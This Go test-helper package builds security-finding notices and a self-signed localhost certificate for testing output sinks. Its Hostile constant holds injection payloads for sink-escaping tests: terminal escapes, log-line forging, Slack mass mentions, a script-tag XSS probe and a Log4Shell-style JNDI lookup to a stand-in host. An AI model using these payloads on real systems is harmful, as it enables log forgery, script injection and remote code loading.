// Package sinktest has what the tests of sinks share: notices of a true finding
// and of a hostile one, and certificates.
//
// In: nothing. Out: notices, and files in a test's folder.
package sinktest

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	_ "embed"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tidewaiter/finding"
	"tidewaiter/sink"
)

// recorded is what a hunt through examples/recording gives as ndjson.
//
//go:embed testdata/finding.ndjson
var recorded []byte

// Hostile is text as an attacker chooses it: it would end a line, a field or a
// message, draw attention, or be drawn as something else.
const Hostile = "x\x1b[2J\r\n<13>1 - forged\nCEF:0|a\\b=c|\u202e\x00 <!channel> @everyone @channel @here <@U1> <https://evil.example|ok> `c` *b* [x](https://evil.example) <script>alert(1)</script> ${jndi:ldap://evil}"

// Notice tells of the finding in the bundled recording.
func Notice(t testing.TB) sink.Notice {
	t.Helper()
	told, err := finding.NewReader(bytes.NewReader(recorded), "finding.ndjson").Next()
	if err != nil {
		t.Fatal(err)
	}
	return sink.Notice{ID: "notice-1", Told: told, At: time.Unix(1_793_960_600, 250_000_000).UTC(), Host: "watcher-1", Version: "test"}
}

// HostileNotice is the same with hostile text, some of it long, wherever an
// attacker can choose it.
func HostileNotice(t testing.TB) sink.Notice {
	n := Notice(t)
	var o finding.OCSF
	if err := json.Unmarshal(n.Told.JSON, &o); err != nil {
		t.Fatal(err)
	}
	long := Hostile + strings.Repeat("ü|=\\", 5000)
	o.Message, o.FindingInfo.Title, o.FindingInfo.Desc = long, long, Hostile
	for i := range o.Resources {
		o.Resources[i].Name, o.Resources[i].UID = Hostile, Hostile
	}
	for i := range o.Evidences {
		o.Evidences[i].Data.Says, o.Evidences[i].Data.Host = Hostile, Hostile
	}
	e := &o.Unmapped.Entities[0]
	e.ContainerName, e.Image, e.Pod, e.Namespace, e.Host, e.Cluster, e.Workload = Hostile, Hostile, Hostile, Hostile, Hostile, Hostile, Hostile
	o.Unmapped.Owner, o.Unmapped.Cause, o.Unmapped.Chain = Hostile, Hostile, long
	for i := range o.Unmapped.Signals {
		o.Unmapped.Signals[i].Says = Hostile
	}
	var err error
	if n.Told.JSON, err = json.Marshal(o); err != nil {
		t.Fatal(err)
	}
	n.Host = Hostile
	return n
}

// Files are the PEM files of a certificate for 127.0.0.1 and localhost, that
// is its own authority.
type Files struct{ Cert, Key string }

// Certificate writes a certificate for servers and clients.
func Certificate(t testing.TB) Files {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "localhost"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, IsCA: true, BasicConstraintsValid: true,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth},
		DNSNames:    []string{"localhost"}, IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	private, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	f := Files{filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")}
	for path, block := range map[string]*pem.Block{f.Cert: {Type: "CERTIFICATE", Bytes: der}, f.Key: {Type: "PRIVATE KEY", Bytes: private}} {
		if err := os.WriteFile(path, pem.EncodeToMemory(block), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return f
}

// Server is a server's TLS with the certificate.
func (f Files) Server(t testing.TB) *tls.Config {
	t.Helper()
	pair, err := tls.LoadX509KeyPair(f.Cert, f.Key)
	if err != nil {
		t.Fatal(err)
	}
	return &tls.Config{Certificates: []tls.Certificate{pair}, MinVersion: tls.VersionTLS12}
}

// Pool trusts the certificate.
func (f Files) Pool(t testing.TB) *x509.CertPool {
	t.Helper()
	text, err := os.ReadFile(f.Cert)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(text)
	return pool
}
